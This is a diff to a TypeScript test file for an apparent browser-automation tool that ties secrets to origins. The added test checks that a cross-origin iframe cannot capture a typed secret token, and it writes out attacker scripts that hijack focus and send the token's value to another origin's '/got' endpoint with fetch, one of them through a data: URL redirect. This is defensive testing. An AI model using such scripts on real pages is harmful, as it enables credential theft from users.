@@ -20,13 +20,19 @@ async function startSites(): Promise<Sites> {
     let body = '';
     for await (const chunk of request) body += String(chunk);
     sent.push(`${url.href} ${JSON.stringify(request.headers)} ${body}`);
-    response.setHeader('content-type', 'text/html').end(`<title>Other</title>${form}`);
+    const shown = url.searchParams.get('body') ?? form;
+    response.setHeader('content-type', 'text/html').end(`<title>Other</title>${shown}`);
   }, 0);
   const app = await serve(async (_, response, url) => {
     const [, route, status] = url.pathname.split('/');
     if (route === 'redirect')
       response.writeHead(Number(status), { location: url.searchParams.get('to') ?? '/' }).end();
-    else response.setHeader('content-type', 'text/html').end(`<title>App</title>${form}`);
+    else {
+      const frame = url.searchParams.has('frame')
+        ? `<iframe src="${url.searchParams.get('frame')}"></iframe>`
+        : '';
+      response.setHeader('content-type', 'text/html').end(`<title>App</title>${form}${frame}`);
+    }
     return Promise.resolve();
   }, 0);
   return { app, other, sent };
@@ -114,6 +120,36 @@ test('a route answers with no document for an origin that has a bound secret', a
     expect(later.pageTitle).toBe('App');
     const written = { ...imitation, body: '{{secret:TOKEN}}' };
     expect((await server.record(next.sessionId, written)).failed?.code).toBe('POLICY_DENIED');
+  });
+});
+
+test('no frame of another origin takes a bound secret that is typed, or is taken for its parent', async ({
+  shared,
+}) => {
+  await withSites(shared, async (server, { app, other, sent }, sessionId) => {
+    const field = '<input id="token">';
+    const script = (code: string): string => `<script>${code}</script>`;
+    const steal = `setInterval(() => { token.focus(); }); token.oninput = () => fetch('/got?' + token.value);`;
+    const thief = `data:text/html,${field}${script(`token.oninput = () => fetch('${other.url}/got?' + token.value, { mode: 'no-cors' })`)}`;
+    const page = (frame: string): string => `${app.url}/?frame=${encodeURIComponent(frame)}`;
+    const framed = `locator('iframe').contentFrame().locator('#token')`;
+    const moved = script(`location = ${JSON.stringify(thief).replaceAll('</', '<\\/')}`);
+    for (const [body, typed] of [
+      [field + script(steal), fillToken],
+      [moved, { ...fillToken, action: 'pressSequentially', target: framed }],
+    ] as const) {
+      const url = page(`${other.url}/?body=${encodeURIComponent(body)}`);
+      const { failed } = await server.record(sessionId, { action: 'goto', url }, typed);
+      expect(failed).toMatchObject({ action: 1, code: 'POLICY_DENIED' });
+    }
+    expect(sent.filter((each) => each.includes('/got'))).toEqual([]);
+    // A blocked frame has no script.
+    await shared.configure({
+      secrets: [{ name: 'TOKEN', origins: [app.url] }],
+      network: { blockedOrigins: [other.url] },
+    });
+    const { failed } = await server.record(sessionId, { action: 'goto', url: page(other.url) }, fillToken);
+    expect(failed).toBeUndefined();
   });
 });
 
